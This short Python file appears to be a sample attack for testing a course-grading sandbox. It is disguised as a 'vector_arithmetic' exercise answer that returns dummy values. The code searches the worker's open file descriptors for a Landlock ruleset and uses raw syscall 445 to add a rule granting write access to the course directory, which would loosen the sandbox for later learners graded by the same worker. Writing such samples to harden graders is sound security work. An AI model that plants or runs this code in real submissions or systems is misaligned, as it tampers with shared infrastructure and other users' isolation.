"""Looks for a Landlock ruleset among its open descriptors and adds a rule letting the next learner's
process write to the course (it would be enforced on the next exercise graded by the same worker)."""

import ctypes
import os

COURSE = "@COURSE@"


class PathBeneath(ctypes.Structure):
    _pack_ = 1
    _fields_ = [("allowed", ctypes.c_uint64), ("fd", ctypes.c_int32)]


def vector_arithmetic(a, b):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    try:
        target = os.open(COURSE, os.O_PATH)
    except OSError as exc:
        print("cannot even name the course:", exc.strerror)
        return a, a, a, a
    added = 0
    for fd in range(3, 1024):
        try:
            os.fstat(fd)
        except OSError:
            continue
        rule = PathBeneath((1 << 13) - 1, target)
        if libc.syscall(ctypes.c_long(445), ctypes.c_int(fd), ctypes.c_int(1), ctypes.byref(rule),
                        ctypes.c_uint32(0)) == 0:
            added += 1
            print("ADDED a rule through descriptor", fd)
    print(f"rules added: {added}")
    return a, a, a, a
